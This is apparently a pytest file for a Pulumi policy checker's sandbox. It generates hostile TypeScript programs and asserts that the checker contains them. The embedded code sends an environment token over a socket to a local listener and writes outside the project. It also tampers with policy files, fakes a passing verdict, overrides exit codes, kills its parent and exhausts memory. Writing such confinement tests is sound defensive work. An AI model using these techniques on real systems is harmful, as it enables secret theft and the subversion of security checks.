"""`pubsubguard check` against TypeScript programs (`runtime: nodejs`, issue 39) that try the tricks of
test_hostile_programs.py: change the verdict or reach past the check. Each case asserts the exact exit code, that
`--format json` stdout is pubsubguard's own document, and that nothing leaked (tests/support/hostile.py). These need the
confinement (bubblewrap) that `scripts/setup.sh` installs."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest
import yaml

from support.nodejs_projects import node_modules
from support.hostile import CANARY, Listener, judged_as_expected, packs
from support.hostile import installed_user_cache, listener  # noqa: F401 - fixtures, used by name

TS_VIOLATION = """
const t = new gcp.pubsub.Topic("orders", { name: "orders" });
new gcp.pubsub.Subscription("eo-push", { name: "eo-push", topic: t.name, enableExactlyOnceDelivery: true,
    pushConfig: { pushEndpoint: "https://push.example.com/p" }, expirationPolicy: { ttl: "" } });
"""  # no-exactly-once-on-push: mandatory
TS_CLEAN = """
new gcp.pubsub.Topic("orders", { name: "orders", messageRetentionDuration: "86400s" });
"""

def ts_project(tmp_path: Path, source: str, listener: Listener) -> Path:
    """A TypeScript program with the installed packages as its node_modules (tests/support/nodejs_projects.py)."""
    root = tmp_path / "team"
    root.mkdir()
    (root / "Pulumi.yaml").write_text(yaml.safe_dump({"name": "team", "runtime": "nodejs"}))
    (root / "Pulumi.dev.yaml").write_text(yaml.safe_dump({"config": {"gcp:project": "proj-a"}}))
    (root / "package.json").write_text(json.dumps({"name": "team", "main": "index.ts"}))
    (root / "tsconfig.json").write_text(json.dumps({"compilerOptions": {
        "strict": True, "target": "ES2020", "module": "commonjs", "moduleResolution": "node"}, "files": ["index.ts"]}))
    (root / "node_modules").symlink_to(node_modules(), target_is_directory=True)
    header = f"""
import * as pulumi from "@pulumi/pulumi";
import * as gcp from "@pulumi/gcp";
import * as fs from "fs";
import * as net from "net";
import * as child_process from "child_process";
const PORT = {listener.port};
const OUTSIDE = {json.dumps(str(tmp_path / "outside"))};
const PACKS: string[] = {json.dumps([str(pack) for pack in packs()])};
const MARKER = {json.dumps(CANARY)};
function exfiltrate(): void {{
    const token = process.env.CANARY_TOKEN ?? "no-token";
    const socket = net.connect(PORT, "127.0.0.1", () => socket.end(token));
    socket.on("error", () => undefined);
    try {{ fs.writeFileSync(OUTSIDE, token); }} catch {{ /* read-only */ }}
    for (const pack of PACKS) {{
        try {{ fs.appendFileSync(pack + "/PulumiPolicy.yaml", "\\n# changed by a program\\n"); }} catch {{ /* read-only */ }}
    }}
}}
function linger(): void {{
    child_process.spawn(process.execPath, ["-e", "setTimeout(() => undefined, 300000)", MARKER],
                        {{ detached: true, stdio: "ignore" }}).unref();
}}
"""
    (root / "index.ts").write_text(header + textwrap.dedent(source))
    return root


TS_CASES = {
    # name: (program, extra args, exit code, stderr must contain, mandatory seen)
    "exit-handler-sets-0-after-a-violation": (TS_VIOLATION + "exfiltrate();\nprocess.on('exit', () => process.exit(0));\n",
                                              (), 1, "", ["no-exactly-once-on-push"]),
    "fails-late-then-exits-0": (TS_VIOLATION + "process.on('exit', () => { process.exitCode = 0; });\n"
                                "setTimeout(() => { throw new Error('failed late'); }, 300);\n",
                                (), 2, "failed late", ["no-exactly-once-on-push"]),
    "exits-0-first": ("process.exit(0);\n" + TS_VIOLATION, (), 2, "before it completed", []),  # the SDK's exit
    # handler makes it 1 ("leaked promises"): never 0, never passed
    "an-interval-keeps-it-alive": (TS_CLEAN + "linger();\nsetInterval(() => undefined, 1000);\n",
                                   ("--timeout", "25"), 2, "did not finish within 25 s", []),
    "prints-a-fake-verdict": ("console.log('{\"passed\": true, \"violations\": []}');\n" + TS_VIOLATION,
                              (), 1, "", ["no-exactly-once-on-push"]),
    "sends-secrets-out-and-writes-outside": ("exfiltrate();\n" + TS_CLEAN, (), 0, "", []),
    "leaves-a-process-behind": ("linger();\n" + TS_CLEAN, (), 0, "", []),
    "kills-its-parent": (TS_VIOLATION + "try { process.kill(process.ppid, 'SIGKILL'); } catch { /* init */ }\n",
                         (), 1, "", ["no-exactly-once-on-push"]),
    "floods-stdout": ("const chunk = 'x'.repeat(65536);\nfor (let i = 0; i < 800; i++) { console.log(chunk); }\n"
                      + TS_VIOLATION, (), 1, "", ["no-exactly-once-on-push"]),
    "allocates-4-gib": ("const block = new Uint8Array(4 * 1024 ** 3 - 1);\nblock.fill(1);\n" + TS_CLEAN, (), 2,
                        "--memory-limit", []),
    "registers-200000-resources": ("for (let i = 0; i < 200000; i++) { new gcp.pubsub.Topic(`t${i}`, { name: `topic-${i}` }); }\n",
                                   ("--max-resources", "300"), 2, "more than 300 resources (--max-resources", []),
    "a-10-mb-input": ("new gcp.pubsub.Topic('big', { name: 'big', labels: { x: 'y'.repeat(10000000) } });\n", (), 2,
                      "over the limit of 1,000,000 (--max-input-bytes", []),
    "reads-its-environment": ("""
const leaked = Object.entries(process.env).filter(([k, v]) => v === MARKER || k === "CANARY_TOKEN");
const homeOk = (process.env.HOME ?? "").startsWith((process.env.TMPDIR ?? "?").replace(/\\/[^/]*$/, ""));
new gcp.pubsub.Topic("env", { name: "env-" + (leaked.length ? "leaked" : "clean") + (homeOk ? "-home" : "-nohome") });
""", (), 0, "", []),
}


@pytest.mark.parametrize("name", sorted(TS_CASES))
@pytest.mark.parametrize("tool", ["checkout", "wheel"])
def test_a_hostile_typescript_program_cannot_change_the_verdict_or_reach_out(name, tool, tmp_path, listener):
    judged_as_expected(ts_project(tmp_path, TS_CASES[name][0], listener), name, TS_CASES[name], tool, tmp_path,
                       listener)
